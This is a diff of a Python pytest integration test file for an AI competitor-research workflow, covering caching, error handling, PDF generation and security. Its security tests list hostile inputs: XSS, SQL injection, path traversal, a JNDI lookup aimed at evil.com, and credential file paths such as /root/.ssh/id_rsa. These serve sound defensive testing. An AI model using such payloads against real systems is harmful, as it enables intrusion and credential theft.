@@ -6,42 +6,175 @@ covering end-to-end workflows, performance, security, and reliability.
 """
 
 import pytest
-import tempfile
 import json
+import logging
+import os
+import re
+import sqlite3
+import subprocess
+import sys
 import time
 from pathlib import Path
-from unittest.mock import Mock, patch, MagicMock
+from unittest.mock import Mock
 from datetime import datetime, timedelta
 
 from src.workflows.competitor_research import create_workflow
-from src.utils.config import config, validate_configuration
+from src.utils.config import config, validate_configuration, invalidate_validation
 from src.utils.monitoring import error_monitor, health_checker
 from src.utils.performance import performance_monitor, intelligent_cache
-from src.tools.search_tool import SearchTool
 from src.tools.scrape_tool import ScrapeTool
-from src.tools.pdf_tool import EnhancedPDFReportTool
+
+
+# Evaluated once for every skipif marker that needs configured API keys
+_CFG_VALID = validate_configuration()
+
+# Words expected in graceful failure, search result and user-facing error messages
+_FAILURE_WORDS = re.compile(r"error|failed|network", re.I)
+_TECH_WORDS = re.compile(r"technology|company|tech", re.I)
+_TECHNICAL_TERMS = re.compile(r"traceback|exception|stack", re.I)
+
+# Hostile search queries the search tool must handle safely
+MALICIOUS_INPUTS = (
+    "<script>alert('xss')</script>",
+    "'; DROP TABLE users; --",
+    "../../etc/passwd",
+    "javascript:alert(1)",
+    "${jndi:ldap://evil.com/x}",
+)
+
+# Output paths the PDF tool must never write to as given
+MALICIOUS_PATHS = (
+    "../../../etc/passwd",
+    "/root/.ssh/id_rsa",
+    "C:\\Windows\\System32\\config\\sam",
+    "file:///etc/hosts",
+)
+
+# Analysis content in the report formats the PDF tool must parse
+STRUCTURED_CONTENTS = (
+    # Markdown-style content
+    """
+    ## Executive Summary
+    The market analysis reveals strong competition.
+    
+    ### Key Competitors
+    - **Tesla**: Electric vehicle leader
+    - **BYD**: Chinese EV manufacturer
+    - **Volkswagen**: Traditional automaker transitioning to EV
+    
+    ### Recommendations
+    1. Focus on battery technology
+    2. Expand charging infrastructure
+    """,
+    
+    # Plain text content
+    """
+    Executive Summary: Market research shows competitive landscape.
+    
+    Companies analyzed:
+    Tesla - Market leader in electric vehicles
+    General Motors - Traditional automaker with EV plans
+    Ford - Investing heavily in electric transition
+    
+    Strategic recommendations:
+    Develop faster charging technology
+    Build strategic partnerships
+    """,
+    
+    # Mixed format content
+    """
+    COMPETITIVE ANALYSIS REPORT
+    
+    Key Findings:
+    • Strong market growth expected
+    • New entrants challenging incumbents
+    • Technology differentiation crucial
+    
+    Major Players:
+    1. Tesla Inc. - Innovation leader
+    2. BYD Company - Cost advantage
+    3. Mercedes-Benz - Premium segment
+    """
+)
+
+
+# Writes three rounds of values to a shared cache dir from a separate process, with
+# small segments so that rollover and compaction run while other processes write
+_CACHE_WORKER = """
+import sys
+from src.utils import performance
+performance._SEGMENT_MAX_BYTES = 16 * 1024
+cache = performance.IntelligentCache(cache_dir=sys.argv[1], max_size=100000)
+for round_ in range(3):
+    for i in range(300):
+        cache.set(f"{sys.argv[2]}:{i}", {"round": round_, "pad": "x" * (i % 200)})
+cache.close()
+"""
+
+
+def _assert_segments_tracked(cache_dir: Path):
+    """Check that every segment log on disk is registered in cache_segments and vice versa"""
+    with sqlite3.connect(cache_dir / "cache_metadata.db") as conn:
+        registered = {f"seg_{row[0]}.log" for row in conn.execute("SELECT file_id FROM cache_segments")}
+    assert {path.name for path in cache_dir.glob("seg_*.log")} == registered
+
+
+class _VirtualClock:
+    """Monotonic test clock: sleep() advances it instantly instead of waiting"""
+
+    def __init__(self):
+        self.now = 0.0
+
+    def __call__(self) -> float:
+        return self.now
+
+    def sleep(self, seconds: float):
+        self.now += seconds
+
+
+@pytest.fixture
+def virtual_clock(monkeypatch):
+    """Replace time.perf_counter and time.sleep with a virtual clock for the test"""
+    clock = _VirtualClock()
+    monkeypatch.setattr(time, "perf_counter", clock)
+    monkeypatch.setattr(time, "sleep", clock.sleep)
+    return clock
+
+
+@pytest.fixture
+def instant_backoff(monkeypatch):
+    """Skip the workflow's retry backoff waits, still honouring cancellation"""
+    async def no_wait(_delay, cancel):
+        return cancel is not None and cancel.is_set()
+    monkeypatch.setattr('src.workflows.competitor_research._backoff', no_wait)
+
+
+@pytest.fixture(scope="session")
+def health_results():
+    """Health check results, run once and shared by the tests that inspect them"""
+    return health_checker.run_health_checks()
+
+
+@pytest.fixture
+def mocked_agents(monkeypatch):
+    """Swap the Agent class in each agent module for a bare Mock"""
+    for module in ("researcher", "analyzer", "reporter"):
+        monkeypatch.setattr(f"src.agents.{module}.Agent", Mock())
 
 
 class TestEndToEndWorkflow:
     """End-to-end workflow testing"""
     
     @pytest.fixture
-    def temp_output_dir(self):
-        """Create temporary directory for test outputs"""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            yield Path(temp_dir)
+    def temp_output_dir(self, session_tmp_dir):
+        """Temporary directory for test outputs"""
+        return session_tmp_dir
     
     @pytest.mark.integration
-    @patch('src.tools.search_tool.DDGS')
-    @patch('src.agents.researcher.Agent')
-    @patch('src.agents.analyzer.Agent')
-    @patch('src.agents.reporter.Agent')
-    def test_complete_workflow_success(self, mock_reporter, mock_analyzer, mock_researcher, mock_ddgs):
+    def test_complete_workflow_success(self, mocked_agents, crew_mock, mock_ddgs):
         """Test complete successful workflow execution"""
         # Mock search results
-        mock_ddgs_instance = Mock()
-        mock_ddgs.return_value.__enter__.return_value = mock_ddgs_instance
-        mock_ddgs_instance.text.return_value = [
+        mock_ddgs.text.return_value = [
             {
                 'title': 'Company A - Leading competitor',
                 'href': 'https://example.com/companyA',
@@ -55,84 +188,99 @@ class TestEndToEndWorkflow:
         ]
         
         # Mock agent responses
-        mock_crew_result = Mock()
-        mock_crew_result.raw = "test_report.pdf"
+        crew_mock.result.raw = "test_report.pdf"
         
-        with patch('src.workflows.competitor_research.Crew') as mock_crew_class:
-            mock_crew = Mock()
-            mock_crew.kickoff.return_value = mock_crew_result
-            mock_crew_class.return_value = mock_crew
-            
-            # Execute workflow
-            result = create_workflow("test competitors analysis")
-            
-            # Verify result structure
-            assert isinstance(result, dict)
-            assert result.get("success") is True
-            assert "result" in result
-            assert "query" in result
-            assert "attempts" in result
+        # Execute workflow
+        result = create_workflow("test competitors analysis")
+        
+        # Verify result structure
+        assert isinstance(result, dict)
+        assert result.get("success") is True
+        assert "result" in result
+        assert "query" in result
+        assert "attempts" in result
     
     @pytest.mark.integration
-    def test_workflow_error_handling(self):
+    def test_workflow_error_handling(self, crew_mock, instant_backoff):
         """Test workflow error handling and recovery"""
-        with patch('src.workflows.competitor_research.Crew') as mock_crew_class:
-            # Simulate API error
-            mock_crew = Mock()
-            mock_crew.kickoff.side_effect = Exception("API rate limit exceeded")
-            mock_crew_class.return_value = mock_crew
-            
-            result = create_workflow("test query")
-            
-            # Should handle error gracefully
-            assert isinstance(result, dict)
-            assert result.get("success") is False
-            assert "error_type" in result
-            assert "message" in result
+        # Simulate API error
+        crew_mock.error = Exception("API rate limit exceeded")
+        
+        result = create_workflow("test query")
+        
+        # Should handle error gracefully
+        assert isinstance(result, dict)
+        assert result.get("success") is False
+        assert "error_type" in result
+        assert "message" in result
     
     @pytest.mark.integration
-    def test_workflow_with_different_query_types(self):
+    @pytest.mark.parametrize("query", [
+        "competitors to Tesla",
+        "top fintech companies 2024",
+        "AI image generation tools",
+        "project management software comparison",
+        "European SaaS companies"
+    ])
+    def test_workflow_with_different_query_types(self, crew_mock, query):
         """Test workflow with various query types"""
-        test_queries = [
-            "competitors to Tesla",
-            "top fintech companies 2024",
-            "AI image generation tools",
-            "project management software comparison",
-            "European SaaS companies"
-        ]
+        crew_mock.result.raw = f"report_{query.replace(' ', '_')}.pdf"
         
-        for query in test_queries:
-            with patch('src.workflows.competitor_research.Crew') as mock_crew_class:
-                mock_crew = Mock()
-                mock_result = Mock()
-                mock_result.raw = f"report_{hash(query)}.pdf"
-                mock_crew.kickoff.return_value = mock_result
-                mock_crew_class.return_value = mock_crew
-                
-                result = create_workflow(query)
-                
-                # Each query should be processed
-                assert isinstance(result, dict)
-                assert result.get("query") == query
+        result = create_workflow(query)
+        
+        # Each query should be processed
+        assert isinstance(result, dict)
+        assert result.get("query") == query
+    
+    def test_workflow_crew_builds_with_crewai(self):
+        """Test the workflow crew, memory embedder included, passes CrewAI's own validation"""
+        from crewai.rag.embeddings.factory import build_embedder
+        from src.utils.embeddings import CachedEmbedder
+        from src.workflows import competitor_research
+        
+        competitor_research._load_dependencies()
+        agent = competitor_research.researcher
+        task = competitor_research.Task(description="Research {query}", expected_output="Findings", agent=agent)
+        crew = competitor_research._build_crew([agent], [task])
+        
+        assert crew.memory
+        assert isinstance(build_embedder(crew.embedder), CachedEmbedder)
+    
+    def test_enhanced_crew_builds_with_crewai(self):
+        """Test the enhanced crew, memory embedder included, passes CrewAI's own validation"""
+        from crewai.rag.embeddings.factory import build_embedder
+        from src.agents.researcher import researcher
+        from src.utils.embeddings import CachedEmbedder
+        from src.workflows.enhanced_competitor_research import EnhancedAgentSystem
+        
+        # Real agents without the specialist tools, which need optional packages
+        names = ('strategic_researcher', 'financial_analyst', 'market_intelligence_specialist',
+                 'technology_analyst', 'strategic_synthesizer', 'visualization_specialist',
+                 'executive_reporter')
+        crew = EnhancedAgentSystem()._create_crew(agents={name: researcher.copy() for name in names})
+        
+        assert len(crew.tasks) == len(names)
+        assert crew.memory
+        assert isinstance(build_embedder(crew.embedder), CachedEmbedder)
 
 
 class TestPerformanceIntegration:
     """Performance and scalability testing"""
     
-    @pytest.fixture(autouse=True)
+    @pytest.fixture
     def setup_performance_monitoring(self):
         """Setup performance monitoring for tests"""
         performance_monitor.metrics.clear()
         yield
         performance_monitor.metrics.clear()
     
-    def test_performance_tracking_integration(self):
+    def test_performance_tracking_integration(self, setup_performance_monitoring, virtual_clock):
         """Test performance tracking during operations"""
         from src.utils.performance import performance_tracker
         
         @performance_tracker(cache_key="test_{args[0]}")
         def test_function(param):
-            time.sleep(0.1)  # Simulate work
+            time.sleep(0.1)  # Simulate work (advances the virtual clock)
             return f"result for {param}"
         
         # Execute function
@@ -147,7 +295,7 @@ class TestPerformanceIntegration:
         assert metric.execution_time >= 0.1
         assert metric.success is True
     
-    def test_cache_integration(self):
+    def test_cache_integration(self, setup_performance_monitoring):
         """Test intelligent caching integration"""
         cache_key = "test_cache_integration"
         test_data = {"test": "data", "timestamp": datetime.now().isoformat()}
@@ -163,13 +311,108 @@ class TestPerformanceIntegration:
         # Verify cache stats
         stats = intelligent_cache.get_stats()
         assert stats['cache_hits'] > 0
+
+    def test_cache_clear_reaches_tracked_functions(self):
+        """Test that clearing the cache also drops results held by decorated functions"""
+        from src.utils.performance import performance_tracker
+        calls = []
+
+        @performance_tracker(cache_key="clear_check_{args[0]}")
+        def tracked_function(param):
+            calls.append(param)
+            return len(calls)
+
+        intelligent_cache.clear()
+        assert tracked_function("x") == tracked_function("x") == 1
+
+        intelligent_cache.clear()
+        assert tracked_function("x") == 2
+
+    def test_cache_compaction_reclaims_dead_segments(self, tmp_path, monkeypatch):
+        """Test that overwritten entries are compacted out of sealed segments"""
+        from src.utils import performance
+        monkeypatch.setattr(performance, "_SEGMENT_MAX_BYTES", 4096)
+        
+        cache = performance.IntelligentCache(cache_dir=str(tmp_path), max_size=1000)
+        for round_ in range(3):
+            for i in range(20):
+                cache.set(f"key:{i}", {"round": round_, "pad": "x" * 300})
+            cache.flush()
+        cache.close()
+        
+        # The first segment only held first-round values, so it was compacted away
+        assert not (tmp_path / "seg_1.log").exists()
+        _assert_segments_tracked(tmp_path)
+        
+        reopened = performance.IntelligentCache(cache_dir=str(tmp_path), max_size=1000)
+        try:
+            assert [reopened.get(f"key:{i}")["round"] for i in range(20)] == [2] * 20
+        finally:
+            reopened.close()
     
-    @pytest.mark.performance
-    def test_concurrent_operations(self):
-        """Test system behavior under concurrent load"""
+    def test_cache_persists_value_as_set(self, tmp_path):
+        """Test that changing a value after set() does not change the copy written to disk"""
+        from src.utils.performance import IntelligentCache
+        data = {"items": list(range(100)), "buffer": bytearray(b"original")}
+        
+        cache = IntelligentCache(cache_dir=str(tmp_path))
+        cache.set("mutated", data)
+        data["items"].clear()
+        data["buffer"][:] = b"modified"
+        for i in range(1000):
+            data[i] = i  # Would break pickling still in progress on the writer thread
+        cache.close()
+        
+        reopened = IntelligentCache(cache_dir=str(tmp_path))
+        try:
+            assert reopened.get("mutated") == {"items": list(range(100)), "buffer": bytearray(b"original")}
+        finally:
+            reopened.close()
+    
+    def test_cache_set_after_close_does_not_block(self, tmp_path):
+        """Test that set() keeps returning once the background writer is stopped"""
         import threading
-        from concurrent.futures import ThreadPoolExecutor
+        from src.utils.performance import IntelligentCache
+        cache = IntelligentCache(cache_dir=str(tmp_path))
+        cache.close()
         
+        # More entries than the write queue holds; a daemon thread so a hang fails the test
+        results = []
+        setter = threading.Thread(target=lambda: results.extend(cache.set(f"late:{i}", i) for i in range(2000)),
+                                  daemon=True)
+        setter.start()
+        setter.join(timeout=10)
+        assert not setter.is_alive(), "set() blocked on the write queue"
+        assert all(results) and len(results) == 2000
+        assert cache.get("late:1999") == 1999
+    
+    @pytest.mark.slow
+    def test_cache_shared_across_processes(self, tmp_path):
+        """Test that processes sharing a cache dir read back each other's entries intact"""
+        from src.utils.performance import IntelligentCache
+        root = Path(__file__).resolve().parents[1]
+        workers = [
+            subprocess.Popen([sys.executable, "-c", _CACHE_WORKER, str(tmp_path), f"worker{n}"],
+                             cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(root)})
+            for n in range(3)
+        ]
+        assert [worker.wait(timeout=120) for worker in workers] == [0, 0, 0]
+        
+        cache = IntelligentCache(cache_dir=str(tmp_path), max_size=100000)
+        try:
+            for n in range(3):
+                for i in range(300):
+                    assert cache.get(f"worker{n}:{i}") == {"round": 2, "pad": "x" * (i % 200)}
+            
+            # Compacting from another process leaves a consistent set of segments
+            cache.clear(pattern="no-such-key")
+            _assert_segments_tracked(tmp_path)
+        finally:
+            cache.close()
+    
+    @staticmethod
+    def _run_cache_operations(executor, count: int):
+        """Set and read back ``count`` cache entries concurrently, returning (results, errors)"""
         results = []
         errors = []
         
@@ -187,11 +430,24 @@ class TestPerformanceIntegration:
             except Exception as e:
                 errors.append(e)
         
-        # Execute concurrent operations
-        with ThreadPoolExecutor(max_workers=5) as executor:
-            futures = [executor.submit(concurrent_operation, i) for i in range(20)]
-            for future in futures:
-                future.result(timeout=10)
+        futures = [executor.submit(concurrent_operation, i) for i in range(count)]
+        for future in futures:
+            future.result(timeout=10)
+        return results, errors
+    
+    def test_cache_thread_safety_smoke(self, thread_pool):
+        """Quick check that concurrent cache writes and reads do not interfere"""
+        results, errors = self._run_cache_operations(thread_pool, 4)
+        
+        assert len(errors) == 0, f"Concurrent operations had errors: {errors}"
+        assert len(results) == 4
+        assert all(result is not None for result in results)
+    
+    @pytest.mark.performance
+    @pytest.mark.slow
+    def test_cache_concurrent_load(self, thread_pool):
+        """Test system behavior under concurrent load"""
+        results, errors = self._run_cache_operations(thread_pool, 20)
         
         # Verify results
         assert len(errors) == 0, f"Concurrent operations had errors: {errors}"
@@ -202,24 +458,18 @@ class TestPerformanceIntegration:
         assert cache_stats['total_entries'] >= 20
     
     @pytest.mark.performance
-    def test_memory_usage_monitoring(self):
+    def test_memory_usage_monitoring(self, caplog):
         """Test memory usage monitoring during operations"""
         from src.utils.performance import resource_manager
         
-        initial_memory = None
-        peak_memory = None
+        with caplog.at_level(logging.DEBUG, logger="competitor_research_agent"):
+            with resource_manager.resource_monitor("memory_test"):
+                pass
         
-        with resource_manager.resource_monitor("memory_test") as monitor:
-            # Simulate memory-intensive operation
-            large_data = []
-            for i in range(1000):
-                large_data.append(f"data_item_{i}" * 100)
-            
-            # Memory should be tracked
-            pass
-        
-        # The context manager should log memory usage
-        # Verify through logs that memory monitoring occurred
+        # The context manager should log memory usage on entry and exit
+        messages = [record.getMessage() for record in caplog.records]
+        assert any(m.startswith("Starting memory_test") and "Peak memory" in m for m in messages)
+        assert any(m.startswith("Completed memory_test") and "Peak memory" in m for m in messages)
 
 
 class TestSecurityIntegration:
@@ -246,102 +496,77 @@ class TestSecurityIntegration:
             assert "api_key" in model_config
             # In a real test, we'd verify the key is masked or encrypted
     
-    def test_input_sanitization(self):
+    @pytest.mark.parametrize("malicious_input", MALICIOUS_INPUTS)
+    def test_input_sanitization(self, search_tool, mock_ddgs, virtual_clock, malicious_input):
         """Test input sanitization and validation"""
-        malicious_inputs = [
-            "<script>alert('xss')</script>",
-            "'; DROP TABLE users; --",
-            "../../etc/passwd",
-            "javascript:alert(1)",
-            "${jndi:ldap://evil.com/x}",
+        mock_ddgs.text.return_value = [
+            {'title': 'Example Company', 'href': 'https://example.com', 'body': 'Example business description'}
         ]
         
-        search_tool = SearchTool()
+        # Should handle malicious input gracefully
+        result = search_tool._run(malicious_input)
         
-        for malicious_input in malicious_inputs:
-            # Should handle malicious input gracefully
-            result = search_tool._run(malicious_input)
-            
-            # Result should be a string (error message or sanitized results)
-            assert isinstance(result, str)
-            
-            # Should not contain raw malicious input
-            assert malicious_input not in result or "Error" in result
+        # Result should be a string (error message or sanitized results)
+        assert isinstance(result, str)
+        
+        # Should not contain raw malicious input
+        assert malicious_input not in result or "Error" in result
     
-    def test_file_path_security(self):
+    @pytest.mark.parametrize("malicious_path", MALICIOUS_PATHS)
+    def test_file_path_security(self, pdf_tool, tmp_path, malicious_path):
         """Test file path security and validation"""
-        pdf_tool = EnhancedPDFReportTool()
-        
-        malicious_paths = [
-            "../../../etc/passwd",
-            "/root/.ssh/id_rsa",
-            "C:\\Windows\\System32\\config\\sam",
-            "file:///etc/hosts",
-        ]
-        
-        for malicious_path in malicious_paths:
-            with tempfile.TemporaryDirectory() as temp_dir:
-                try:
-                    result = pdf_tool._run(
-                        summary="test content",
-                        filename=malicious_path,
-                        query="test"
-                    )
-                    
-                    # Should either fail safely or create file in safe location
-                    if not result.startswith("Error"):
-                        created_path = Path(result)
-                        # File should be created in current directory or temp location, not system paths
-                        assert not created_path.is_absolute() or temp_dir in str(created_path)
-                        
-                except Exception:
-                    # Exception is acceptable for malicious paths
-                    pass
+        try:
+            result = pdf_tool._run(
+                summary="test content",
+                filename=malicious_path,
+                query="test"
+            )
+            
+            # Should either fail safely or create file in safe location
+            if not result.startswith("Error"):
+                created_path = Path(result)
+                # File should be created in current directory or temp location, not system paths
+                assert not created_path.is_absolute() or str(tmp_path) in str(created_path)
+                
+        except Exception:
+            # Exception is acceptable for malicious paths
+            pass
 
 
 class TestReliabilityIntegration:
     """System reliability and fault tolerance testing"""
     
-    def test_error_recovery(self):
-        """Test error recovery and system resilience"""
+    def test_error_recovery(self, search_tool, mock_ddgs, virtual_clock):
+        """Test error recovery and system resilience (retry backoff runs on the virtual clock)"""
         # Test network failure simulation
-        with patch('src.tools.search_tool.DDGS') as mock_ddgs:
-            # Simulate network error
-            mock_ddgs.side_effect = ConnectionError("Network unavailable")
-            
-            search_tool = SearchTool()
-            result = search_tool._run("test query")
-            
-            # Should handle network error gracefully
-            assert isinstance(result, str)
-            assert any(word in result.lower() for word in ["error", "failed", "network"])
+        mock_ddgs.text.side_effect = ConnectionError("Network unavailable")
+        
+        result = search_tool._run("test query")
+        
+        # Should handle network error gracefully and say what went wrong
+        assert isinstance(result, str)
+        assert _FAILURE_WORDS.search(result)
+        assert "Network unavailable" in result
     
-    def test_partial_failure_handling(self):
+    def test_partial_failure_handling(self, search_tool, mock_ddgs):
         """Test handling of partial system failures"""
-        with patch('src.tools.search_tool.DDGS') as mock_ddgs:
-            # Simulate partial search results
-            mock_ddgs_instance = Mock()
-            mock_ddgs.return_value.__enter__.return_value = mock_ddgs_instance
-            mock_ddgs_instance.text.return_value = [
-                {'title': 'Valid Result', 'href': 'https://example.com', 'body': 'Valid content'},
-                None,  # Invalid result
-                {'title': '', 'href': '', 'body': ''},  # Empty result
-                {'title': 'Another Valid', 'href': 'https://example2.com', 'body': 'More content'}
-            ]
-            
-            search_tool = SearchTool()
-            result = search_tool._run("test query")
-            
-            # Should process valid results and handle invalid ones
-            assert isinstance(result, str)
-            assert "Valid Result" in result
-            assert "Another Valid" in result
+        # Simulate partial search results
+        mock_ddgs.text.return_value = [
+            {'title': 'Valid Result', 'href': 'https://example.com', 'body': 'Valid content'},
+            None,  # Invalid result
+            {'title': '', 'href': '', 'body': ''},  # Empty result
+            {'title': 'Another Valid', 'href': 'https://example2.com', 'body': 'More content'}
+        ]
+        
+        result = search_tool._run("test query")
+        
+        # Should process valid results and handle invalid ones
+        assert isinstance(result, str)
+        assert "Valid Result" in result
+        assert "Another Valid" in result
     
-    def test_system_health_monitoring(self):
+    def test_system_health_monitoring(self, health_results):
         """Test system health monitoring integration"""
-        # Run health checks
-        health_results = health_checker.run_health_checks()
-        
         assert isinstance(health_results, dict)
         assert "overall_status" in health_results
         assert "checks" in health_results
@@ -370,14 +595,34 @@ class TestReliabilityIntegration:
         assert error_summary["total_errors"] >= 1
         assert "by_severity" in error_summary
         assert "by_category" in error_summary
+    
+    def test_error_monitor_duplicates_and_eviction(self):
+        """Test that duplicates are counted in place and the first-seen error is evicted first"""
+        from src.utils.monitoring import ErrorMonitor
+        monitor = ErrorMonitor(max_errors=2)
+        
+        first = monitor.record_error(ValueError("first"))
+        second = monitor.record_error(ValueError("second"))
+        assert monitor.record_error(ValueError("first")) == first
+        assert monitor.errors[first].count == 2
+        assert [e.error_id for e in monitor._recent_errors(0)] == [second, first]
+        
+        # Seeing "first" again does not protect it from eviction
+        third = monitor.record_error(ValueError("third"))
+        assert list(monitor.errors) == [second, third]
+        assert [e.error_id for e in monitor._recent_errors(0)] == [second, third]
 
 
 class TestDataIntegration:
     """Data processing and quality testing"""
     
-    def test_pdf_generation_quality(self):
+    def test_pdf_generation_quality(self, pdf_tool, tmp_path, monkeypatch):
         """Test PDF generation quality and content"""
-        pdf_tool = EnhancedPDFReportTool()
+        # Stand in for ReportLab's layout pass; rendering itself is covered by the slow PDF tests
+        def fake_build(doc, flowables, *args, **kwargs):
+            Path(doc.filename).write_bytes(b"%PDF" + b"x" * 2000)
+        
+        monkeypatch.setattr('src.tools.pdf_tool.SimpleDocTemplate.build', fake_build)
         
         test_content = """
         Executive Summary:
@@ -399,197 +644,139 @@ class TestDataIntegration:
         - Invest in research and development
         """
         
-        with tempfile.TemporaryDirectory() as temp_dir:
-            output_path = Path(temp_dir) / "test_report.pdf"
-            
-            result = pdf_tool._run(
-                summary=test_content,
-                filename=str(output_path),
-                query="AI competitors analysis"
-            )
-            
-            # Verify PDF was created
-            assert output_path.exists()
-            assert output_path.stat().st_size > 1000  # Should be substantial
-            
-            # Verify structured data extraction
-            structured_data = pdf_tool._extract_structured_data(test_content)
-            
-            assert isinstance(structured_data, dict)
-            assert len(structured_data['competitors']) >= 3
-            assert any('Microsoft' in comp for comp in structured_data['competitors'])
-            assert any('Google' in comp for comp in structured_data['competitors'])
+        output_path = tmp_path / "test_report.pdf"
+        
+        result = pdf_tool._run(
+            summary=test_content,
+            filename=str(output_path),
+            query="AI competitors analysis"
+        )
+        
+        # Verify PDF was created
+        assert output_path.stat().st_size > 1000  # Should exist and be substantial
+        
+        # Verify structured data extraction
+        structured_data = pdf_tool._extract_structured_data(test_content)
+        
+        assert isinstance(structured_data, dict)
+        assert len(structured_data['competitors']) >= 3
+        assert any('Microsoft' in comp for comp in structured_data['competitors'])
+        assert any('Google' in comp for comp in structured_data['competitors'])
     
-    def test_data_processing_accuracy(self):
+    def test_data_processing_accuracy(self, search_tool):
         """Test accuracy of data processing and extraction"""
-        search_tool = SearchTool()
-        
         # Test query optimization
         optimized_queries = search_tool._optimize_query("competitors to Tesla")
         
-        assert isinstance(optimized_queries, list)
+        assert isinstance(optimized_queries, tuple)
         assert len(optimized_queries) >= 1
         assert any('Tesla' in query for query in optimized_queries)
         assert any('competitor' in query.lower() for query in optimized_queries)
     
-    def test_structured_data_extraction(self):
+    @pytest.mark.parametrize("content", STRUCTURED_CONTENTS, ids=["markdown", "plain", "mixed"])
+    def test_structured_data_extraction(self, pdf_tool, content):
         """Test structured data extraction from various content formats"""
-        pdf_tool = EnhancedPDFReportTool()
+        structured_data = pdf_tool._extract_structured_data(content)
         
-        test_contents = [
-            # Markdown-style content
-            """
-            ## Executive Summary
-            The market analysis reveals strong competition.
-            
-            ### Key Competitors
-            - **Tesla**: Electric vehicle leader
-            - **BYD**: Chinese EV manufacturer
-            - **Volkswagen**: Traditional automaker transitioning to EV
-            
-            ### Recommendations
-            1. Focus on battery technology
-            2. Expand charging infrastructure
-            """,
-            
-            # Plain text content
-            """
-            Executive Summary: Market research shows competitive landscape.
-            
-            Companies analyzed:
-            Tesla - Market leader in electric vehicles
-            General Motors - Traditional automaker with EV plans
-            Ford - Investing heavily in electric transition
-            
-            Strategic recommendations:
-            Develop faster charging technology
-            Build strategic partnerships
-            """,
-            
-            # Mixed format content
-            """
-            COMPETITIVE ANALYSIS REPORT
-            
-            Key Findings:
-            • Strong market growth expected
-            • New entrants challenging incumbents
-            • Technology differentiation crucial
-            
-            Major Players:
-            1. Tesla Inc. - Innovation leader
-            2. BYD Company - Cost advantage
-            3. Mercedes-Benz - Premium segment
-            """
-        ]
+        # Each should extract some structured information
+        assert isinstance(structured_data, dict)
+        assert 'executive_summary' in structured_data
+        assert 'competitors' in structured_data
+        assert 'recommendations' in structured_data
         
-        for i, content in enumerate(test_contents):
-            structured_data = pdf_tool._extract_structured_data(content)
-            
-            # Each should extract some structured information
-            assert isinstance(structured_data, dict)
-            assert 'executive_summary' in structured_data
-            assert 'competitors' in structured_data
-            assert 'recommendations' in structured_data
-            
-            # Should extract at least some competitors
-            assert len(structured_data['competitors']) > 0
+        # Should extract at least some competitors
+        assert len(structured_data['competitors']) > 0
 
 
 class TestAPIIntegration:
     """API and external service integration testing"""
     
     @pytest.mark.integration
-    @pytest.mark.skipif(not validate_configuration(), reason="API keys not configured")
-    def test_real_api_integration(self):
+    @pytest.mark.slow
+    @pytest.mark.network
+    @pytest.mark.skipif(not _CFG_VALID, reason="API keys not configured")
+    def test_real_api_integration(self, search_tool):
         """Test integration with real API services (when configured)"""
         # This test only runs when API keys are properly configured
-        search_tool = SearchTool()
-        
         # Test with simple, reliable query
         result = search_tool._run("technology companies")
         
         assert isinstance(result, str)
         assert len(result) > 100  # Should have substantial content
-        assert any(word in result.lower() for word in ["technology", "company", "tech"])
+        assert _TECH_WORDS.search(result)
     
-    def test_api_error_handling(self):
+    def test_api_error_handling(self, monkeypatch):
         """Test API error handling and fallbacks"""
-        with patch('src.utils.config.config.get_model_config') as mock_config:
-            # Simulate API configuration error
-            mock_config.side_effect = ValueError("No valid API keys")
-            
-            from src.workflows.competitor_research import create_workflow
+        # Simulate API configuration error
+        monkeypatch.setattr(config, "get_model_config", Mock(side_effect=ValueError("No valid API keys")))
+        # Validation results are cached per process, so drop any earlier result
+        invalidate_validation()
+        
+        try:
             result = create_workflow("test query")
-            
-            # Should handle configuration error gracefully
-            assert isinstance(result, dict)
-            assert result.get("success") is False
+        finally:
+            invalidate_validation()
+        
+        # Should handle configuration error gracefully
+        assert isinstance(result, dict)
+        assert result.get("success") is False
 
 
 class TestUserExperienceIntegration:
     """User experience and workflow testing"""
     
-    def test_complete_user_workflow(self):
+    def test_complete_user_workflow(self, crew_mock):
         """Test complete user workflow from query to report"""
         # This simulates a complete user journey
         test_query = "competitors to Slack"
         
-        with patch('src.workflows.competitor_research.Crew') as mock_crew_class:
-            # Mock successful analysis
-            mock_crew = Mock()
-            mock_result = Mock()
-            mock_result.raw = "slack_competitors_analysis.pdf"
-            mock_crew.kickoff.return_value = mock_result
-            mock_crew_class.return_value = mock_crew
+        # Mock successful analysis
+        crew_mock.result.raw = "slack_competitors_analysis.pdf"
+        
+        # Execute workflow
+        start_time = time.time()
+        result = create_workflow(test_query)
+        execution_time = time.time() - start_time
+        
+        # Verify user experience expectations
+        assert execution_time < 60  # Should complete in reasonable time
+        assert isinstance(result, dict)
+        assert result.get("success") is True
+        assert result.get("query") == test_query
+        
+        # Should provide meaningful output
+        assert "result" in result
+        assert result.get("attempts", 0) >= 1
+    
+    def test_error_user_experience(self, crew_mock, instant_backoff):
+        """Test user experience during error scenarios"""
+        # Simulate different types of errors users might encounter
+        error_scenarios = [
+            (ConnectionError("Network timeout"), "network"),
+            (ValueError("Invalid API key"), "authentication"), 
+            (Exception("Rate limit exceeded"), "rate_limit")
+        ]
+        
+        for error, expected_category in error_scenarios:
+            crew_mock.error = error
             
-            # Execute workflow
-            start_time = time.time()
-            result = create_workflow(test_query)
-            execution_time = time.time() - start_time
+            result = create_workflow("test query")
             
-            # Verify user experience expectations
-            assert execution_time < 60  # Should complete in reasonable time
+            # Should provide user-friendly error information
             assert isinstance(result, dict)
-            assert result.get("success") is True
-            assert result.get("query") == test_query
-            
-            # Should provide meaningful output
-            assert "result" in result
-            assert result.get("attempts", 0) >= 1
-    
-    def test_error_user_experience(self):
-        """Test user experience during error scenarios"""
-        with patch('src.workflows.competitor_research.Crew') as mock_crew_class:
-            # Simulate different types of errors users might encounter
-            error_scenarios = [
-                (ConnectionError("Network timeout"), "network"),
-                (ValueError("Invalid API key"), "authentication"), 
-                (Exception("Rate limit exceeded"), "rate_limit")
-            ]
+            assert result.get("success") is False
+            assert "message" in result
+            assert len(result["message"]) > 0
             
-            for error, expected_category in error_scenarios:
-                mock_crew = Mock()
-                mock_crew.kickoff.side_effect = error
-                mock_crew_class.return_value = mock_crew
-                
-                result = create_workflow("test query")
-                
-                # Should provide user-friendly error information
-                assert isinstance(result, dict)
-                assert result.get("success") is False
-                assert "message" in result
-                assert len(result["message"]) > 0
-                
-                # Error message should be user-friendly, not technical
-                message = result["message"].lower()
-                assert not any(tech_term in message for tech_term in ["traceback", "exception", "stack"])
